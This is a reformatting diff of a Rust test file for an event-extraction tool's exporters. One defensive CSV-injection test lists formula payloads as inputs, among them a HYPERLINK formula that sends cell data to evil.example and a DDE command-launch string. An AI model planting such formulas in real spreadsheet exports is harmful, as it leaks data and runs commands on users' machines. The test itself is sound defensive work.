@@ -268,7 +268,10 @@ fn format_cameo_prints_the_event_table() {
     // PLOVER's type of a phone call; a statement (CAMEO 01) has none.
     assert_eq!(call[6], "CONSULT");
     assert!(rows.iter().filter(|r| r[5].starts_with("01")).all(|r| r[6].is_empty()));
-    assert!(rows.iter().filter(|r| !r[5].starts_with("01") && !r[5].starts_with("02")).all(|r| !r[6].is_empty()));
+    assert!(rows
+        .iter()
+        .filter(|r| !r[5].starts_with("01") && !r[5].starts_with("02"))
+        .all(|r| !r[6].is_empty()));
     assert!(!call[9].is_empty());
     assert_eq!(call[10], "false");
 }
@@ -405,13 +408,23 @@ fn jsonl_streams_in_constant_memory() {
 /// A field a spreadsheet would run as a formula: after leading spaces it begins with
 /// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV-injection rule).
 fn runs_in_a_spreadsheet(field: &str) -> bool {
-    matches!(field.trim_start_matches(' ').as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+    matches!(
+        field.trim_start_matches(' ').as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
 }
 
 #[test]
 fn no_export_field_runs_as_a_spreadsheet_formula() {
     let dir = tempdir();
-    let lead = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", " =1+2"];
+    let lead = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        " =1+2",
+    ];
     for (i, l) in lead.iter().enumerate() {
         std::fs::write(
             dir.join(format!("a{i}.txt")),
@@ -497,8 +510,16 @@ fn timeml_output_names_only_ids_it_defines() {
             }
         }
         for r in [
-            "eventID", "eventInstanceID", "timeID", "relatedToTime", "relatedToEventInstance", "anchorTimeID",
-            "beginPoint", "endPoint", "subordinatedEventInstance", "signalID",
+            "eventID",
+            "eventInstanceID",
+            "timeID",
+            "relatedToTime",
+            "relatedToEventInstance",
+            "anchorTimeID",
+            "beginPoint",
+            "endPoint",
+            "subordinatedEventInstance",
+            "signalID",
         ] {
             for v in attr_values(&doc, r) {
                 assert!(defined.contains(&v), "{name:?}: {r}=\"{v}\" names no element");
